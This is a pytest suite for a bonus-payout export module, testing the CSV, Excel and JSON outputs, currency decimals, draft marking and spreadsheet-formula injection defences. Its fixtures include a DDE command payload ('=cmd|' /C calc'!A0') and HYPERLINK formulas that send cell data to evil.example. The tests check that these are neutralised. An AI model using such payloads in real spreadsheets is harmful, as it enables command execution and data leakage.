"""The bonus exports as pure builders (DESIGN 6.5): CSV injection, amounts as numbers with the currency's
decimals, the DRAFT marking, the run id and checksum in every file, the workbook read back."""

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from okr.bonus.exports import (
    DANGEROUS,
    PAYROLL_COLUMNS,
    ExportData,
    ExportError,
    LedgerRow,
    PersonRow,
    TeamRow,
    TraceRow,
    excel_amount,
    export_json,
    file_name,
    money_format,
    payroll_csv,
    safe_cell,
    workbook,
)

CHECKSUM = "ab" * 32
SHEETS = ["Summary", "People", "Deal trace", "Adjustments"]


def person(pid: int, name: str, payable: int, *, team: str = "sales", email: str | None = None) -> PersonRow:
    return PersonRow(
        person_id=pid,
        employee_id=f"E-{pid}",
        name=name,
        email=email or f"p{pid}@example.com",
        team=team,
        credit=6_000_000,
        proration=Decimal("1"),
        cap=None,
        capped=False,
        earning=payable,
        adjustment=0,
        clawback=0,
        carried_in=0,
        total=payable,
        payable=payable,
        carried_out=0,
    )


def sample(
    *, state: str = "locked", currency: str = "USD", people: tuple[PersonRow, ...] | None = None
) -> ExportData:
    rows = people or (
        person(1, "Rita Rep", 108_000),
        person(2, "Sue Seller", 162_000),
        person(3, "Vic Leader", 0),
    )
    return ExportData(
        run_id=12,
        run_number=2,
        period="2026-Q3",
        state=state,
        currency=currency,
        as_of=dt.datetime(2026, 9, 20, 16, 0, tzinfo=dt.UTC),
        computed_at=dt.datetime(2026, 9, 20, 16, 1, tzinfo=dt.UTC),
        locked_at=dt.datetime(2026, 9, 21, 9, 0, tzinfo=dt.UTC) if state == "locked" else None,
        inputs_checksum=CHECKSUM,
        results_checksum="cd" * 32,
        joint_score="1",
        multiplier="1",
        won_revenue=15_000_000,
        sourced_pipeline=0,
        formula="pool = R(1 × 0.03 × 15000000) + 0 = 450000",
        carried_forward=0,
        pool=450_000,
        paid=sum(r.payable for r in rows),
        leftover=0,
        leftover_policy="carry_forward",
        teams=(TeamRow("sales", "0.6", "by_credit", 270_000, 270_000, 0, 3),),
        people=rows,
        traces=(
            TraceRow(
                2, "Sue Seller", "p2@example.com", 10, "W1", "=cmd|' /C calc'!A0", None, "", 4_000_000, 72_000
            ),
            TraceRow(2, "Sue Seller", "p2@example.com", 11, "W2", "Big deal", 7, "MK1", 5_000_000, 90_000),
        ),
        ledger=(LedgerRow(1, "Rita Rep", "p1@example.com", "adjustment", -2_500, "-Q2 overpayment", ""),),
    )


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def payroll(content: bytes) -> list[dict[str, str]]:
    header, *body = rows_of(content)
    assert header == list(PAYROLL_COLUMNS)
    return [dict(zip(header, row, strict=True)) for row in body]


# -- safe_cell -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_a_dangerous_first_character_is_prefixed(first: str) -> None:
    assert safe_cell(first + "SUM(A1:A9)") == "'" + first + "SUM(A1:A9)"


@pytest.mark.parametrize(
    "text", ["Rita Rep", "rita@example.com", "", "'=already quoted", "A-1", " =x", "1+1"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


# -- payroll CSV -----------------------------------------------------------------------------------------


def test_the_payroll_lists_everyone_with_the_amounts_in_major_units() -> None:
    content = payroll_csv(sample())
    assert not content.startswith(b"\xef\xbb\xbf")  # no byte order mark
    rows = payroll(content)
    assert [(r["name"], r["amount"]) for r in rows] == [
        ("Rita Rep", "1080.00"),
        ("Sue Seller", "1620.00"),
        ("Vic Leader", "0.00"),
    ]
    assert {(r["period"], r["run_id"], r["currency"], r["inputs_checksum"], r["status"]) for r in rows} == {
        ("2026-Q3", "12", "USD", CHECKSUM, "FINAL")
    }
    assert rows[0]["employee_id"] == "E-1" and rows[0]["email"] == "p1@example.com"
    # Amounts are bare numbers, never quoted text.
    assert b",1080.00,USD," in content and b'"1080.00"' not in content
    assert content.endswith(b"\r\n")


@pytest.mark.parametrize(
    ("currency", "minor", "shown"),
    [("JPY", 500_000, "500000"), ("KWD", 1_250, "1.250"), ("KWD", 7, "0.007"), ("USD", 5, "0.05")],
)
def test_amounts_have_the_currency_decimals(currency: str, minor: int, shown: str) -> None:
    rows = payroll(payroll_csv(sample(currency=currency, people=(person(1, "Rita", minor),))))
    assert (rows[0]["amount"], rows[0]["currency"]) == (shown, currency)


def test_a_draft_is_marked_on_every_row_and_in_the_file_name() -> None:
    draft = sample(state="approved")
    assert {r["status"] for r in payroll(payroll_csv(draft))} == {"DRAFT"}
    assert file_name(draft, "csv") == "okr-bonus-2026-Q3-run-12-DRAFT.csv"
    assert file_name(sample(), "xlsx") == "okr-bonus-2026-Q3-run-12.xlsx"
    for state in ("draft", "submitted", "approved"):
        assert sample(state=state).draft
    assert not sample().draft


def test_names_that_would_run_as_formulas_are_prefixed_in_the_csv() -> None:
    evil = (
        person(
            1, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', 100, email="+1@example.com", team="-sales"
        ),
        person(2, "@SUM(1+1)", 100),
        person(3, "\tTabbed", 100),
        person(4, "\rCarriage", 100),
        person(5, "Plain Name", 100),
    )
    rows = payroll(payroll_csv(sample(people=evil)))
    assert [r["name"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "'@SUM(1+1)",
        "'\tTabbed",
        "'\rCarriage",
        "Plain Name",
    ]
    assert (rows[0]["email"], rows[0]["team"]) == ("'+1@example.com", "'-sales")


text_values = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)


@settings(max_examples=200, deadline=None)
@given(names=st.lists(text_values, min_size=1, max_size=5), team=text_values, employee=text_values)
def test_no_csv_cell_starts_with_a_dangerous_character_unless_prefixed(
    names: list[str], team: str, employee: str
) -> None:
    people = tuple(
        dataclasses.replace(person(i, name, i * 100, team=team), employee_id=employee, email=name)
        for i, name in enumerate(names, start=1)
    )
    rows = payroll(payroll_csv(sample(people=people)))
    assert len(rows) == len(names)
    for i, (row, name) in enumerate(zip(rows, names, strict=True), start=1):
        for cell in row.values():
            assert not cell.startswith(DANGEROUS)
        # Nothing else changes: the cell is the text, or ' and the text when it was dangerous.
        assert row["name"] == row["email"] == ("'" + name if name.startswith(DANGEROUS) else name)
        assert row["team"] == safe_cell(team) and row["employee_id"] == safe_cell(employee)
        assert row["amount"] == f"{i}.00"


# -- workbook --------------------------------------------------------------------------------------------


def raw_values(content: bytes, sheet: int) -> dict[str, str]:
    """{cell: the text stored in the file} of the n-th sheet (1-based): what Excel reads as the number."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        # The file was just built by our own code, not received from anyone.
        root = ElementTree.fromstring(z.read(f"xl/worksheets/sheet{sheet}.xml"))  # noqa: S314
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    return {
        c.attrib["r"]: v.text or ""
        for c in root.iterfind(".//m:c", ns)
        if (v := c.find("m:v", ns)) is not None
    }


def column(ws: Any, title: str) -> int:
    return [c.value for c in ws[2]].index(title) + 1


def test_the_workbook_has_its_sheets_with_numbers_not_text() -> None:
    content = workbook(sample())
    book = load_workbook(io.BytesIO(content))
    assert book.sheetnames == SHEETS

    summary = book["Summary"]
    assert str(summary["A1"].value).startswith("FINAL: run 12 (2026-Q3) locked")
    fields = {r[0].value: r[1] for r in summary.iter_rows(min_row=3, max_col=2) if r[0].value}
    assert fields["Run id"].value == 12
    assert fields["Status"].value == "FINAL" and fields["Draft"].value is False
    assert fields["Inputs checksum (sha256)"].value == CHECKSUM
    assert fields["Period"].value == "2026-Q3" and fields["State"].value == "locked"
    assert fields["As of (UTC)"].value == "2026-09-20T16:00:00Z"
    assert str(fields["Pool formula (minor units)"].value).startswith("pool = R(")
    pool = fields["Pool"]
    assert pool.data_type == "n" and pool.number_format == "#,##0.00"
    assert Decimal(raw_values(content, 1)[pool.coordinate]) == Decimal("4500.00")

    people = book["People"]
    payable = column(people, "Payable")
    cells = [people.cell(row=r, column=payable) for r in (3, 4, 5)]
    assert all(c.data_type == "n" and c.number_format == "#,##0.00" for c in cells)
    raw = raw_values(content, 2)
    assert [Decimal(raw[c.coordinate]) for c in cells] == [Decimal("1080.00"), Decimal("1620.00"), Decimal(0)]
    assert [people.cell(row=r, column=2).value for r in (3, 4, 5)] == ["Rita Rep", "Sue Seller", "Vic Leader"]
    assert people.cell(row=3, column=column(people, "Run id")).value == 12

    trace = book["Deal trace"]
    assert [trace.cell(row=r, column=3).value for r in (3, 4)] == ["W1", "W2"]
    # The deal name that is a DDE formula stays text.
    assert trace["D3"].value == "'=cmd|' /C calc'!A0" and trace["D3"].data_type == "s"
    assert Decimal(raw_values(content, 3)["H4"]) == Decimal("900.00")

    adjustments = book["Adjustments"]
    assert adjustments["E3"].value == "'-Q2 overpayment"
    assert adjustments["F3"].data_type == "n"
    assert Decimal(raw_values(content, 4)["F3"]) == Decimal("-25.00")


def test_a_draft_workbook_says_so_on_every_sheet() -> None:
    book = load_workbook(io.BytesIO(workbook(sample(state="submitted"))))
    for name in SHEETS:
        banner = str(book[name]["A1"].value)
        assert banner.startswith(
            "DRAFT: run 12 (2026-Q3) is submitted, not locked; do not pay from this file"
        )
        assert CHECKSUM in banner
    assert book["Summary"]["B3"].value == "DRAFT"


@pytest.mark.parametrize(
    ("currency", "minor", "fmt", "exact"),
    [
        ("JPY", 500_000, "#,##0", Decimal(500_000)),
        ("KWD", 1_250, "#,##0.000", Decimal("1.250")),
        ("USD", 123_456_789_012_345, "#,##0.00", Decimal("1234567890123.45")),
    ],
)
def test_workbook_amounts_are_exact_numbers_in_the_currency_format(
    currency: str, minor: int, fmt: str, exact: Decimal
) -> None:
    content = workbook(sample(currency=currency, people=(person(1, "Rita", minor),)))
    people = load_workbook(io.BytesIO(content))["People"]
    cell = people.cell(row=3, column=column(people, "Payable"))
    assert cell.data_type == "n" and cell.number_format == fmt == money_format(currency)
    assert Decimal(raw_values(content, 2)[cell.coordinate]) == exact


def test_an_amount_excel_cannot_hold_exactly_is_refused() -> None:
    assert excel_amount(999_999_999_999_999, "USD") == Decimal("9999999999999.99")
    with pytest.raises(ExportError, match="more digits"):
        excel_amount(1_000_000_000_000_000, "USD")


def test_workbook_text_cells_are_safe_and_stay_text() -> None:
    evil = (
        person(1, '=HYPERLINK("http://evil.example","x")', 100),
        person(2, "#N/A", 100),
        person(3, "Null\x00Byte", 100),
    )
    people = load_workbook(io.BytesIO(workbook(sample(people=evil))))["People"]
    names = [people.cell(row=r, column=2) for r in (3, 4, 5)]
    assert [c.value for c in names] == ['\'=HYPERLINK("http://evil.example","x")', "#N/A", "Null\ufffdByte"]
    assert all(c.data_type == "s" for c in names)


# -- JSON ------------------------------------------------------------------------------------------------


def walk(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [x for v in value.values() for x in walk(v)]
    if isinstance(value, list):
        return [x for v in value for x in walk(v)]
    return [value]


def test_the_json_gives_minor_units_and_major_units() -> None:
    doc = export_json(sample(state="draft"))
    assert (doc["run_id"], doc["inputs_checksum"], doc["draft"], doc["status"]) == (
        12,
        CHECKSUM,
        True,
        "DRAFT",
    )
    assert (doc["currency"], doc["decimals"], doc["period"]) == ("USD", 2, "2026-Q3")
    assert [(p["email"], p["payable"]) for p in doc["people"]] == [
        ("p1@example.com", {"minor": 108_000, "major": "1080.00"}),
        ("p2@example.com", {"minor": 162_000, "major": "1620.00"}),
        ("p3@example.com", {"minor": 0, "major": "0.00"}),
    ]
    assert doc["pool"]["pool"] == {"minor": 450_000, "major": "4500.00"}
    assert doc["adjustments"][0]["amount"] == {"minor": -2_500, "major": "-25.00"}
    assert doc["traces"][1]["campaign_id"] == 7
    assert doc["people"][0]["proration"] == "1"
    assert not any(isinstance(v, float | Decimal) for v in walk(doc))
    assert json.loads(json.dumps(doc)) == doc
    assert export_json(sample(currency="JPY"))["people"][0]["payable"] == {
        "minor": 108_000,
        "major": "108000",
    }
    assert export_json(sample())["draft"] is False
